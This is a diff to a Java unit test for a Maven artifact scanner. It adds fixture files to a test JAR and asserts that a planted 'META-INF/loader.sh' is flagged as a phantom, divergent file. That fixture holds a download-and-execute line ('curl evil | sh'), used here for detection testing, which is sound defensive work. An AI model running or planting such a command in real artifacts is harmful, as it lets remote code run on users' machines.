@@ -383,14 +383,18 @@ class MavenScanTest {
         jar.put("org/acme/internal/shaded/fastlib/Parser.class", CLASS);
         jar.put("META-INF/versions/11/org/acme/internal/shaded/fastlib/Parser.class", CLASS);
         jar.put("org/acme/internal/Evil.class", CLASS);
+        jar.put("META-INF/thirdparty-LICENSE", "MIT\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
+        jar.put("META-INF/loader.sh", "curl evil | sh\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
         ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        assertEquals(FileStatus.PHANTOM, row(a, "META-INF/loader.sh").status());
         for (String p : List.of("org/acme/internal/shaded/fastlib/Parser.class",
-                "META-INF/versions/11/org/acme/internal/shaded/fastlib/Parser.class")) {
+                "META-INF/versions/11/org/acme/internal/shaded/fastlib/Parser.class", "META-INF/thirdparty-LICENSE")) {
             assertEquals(FileStatus.BUILD_OUTPUT, row(a, p).status(), p);
             assertEquals(MavenGeneratedFiles.BUILD_SHADED, row(a, p).ruleId(), p);
         }
         assertEquals(MavenGeneratedFiles.CLASS_WITHOUT_SOURCE, row(a, "org/acme/internal/Evil.class").ruleId());
-        assertEquals(List.of("org/acme/internal/Evil.class"), a.divergentPaths());
+        assertEquals(List.of("META-INF/loader.sh", "org/acme/internal/Evil.class"),
+                a.divergentPaths().stream().sorted().toList());
     }
 
     @Test
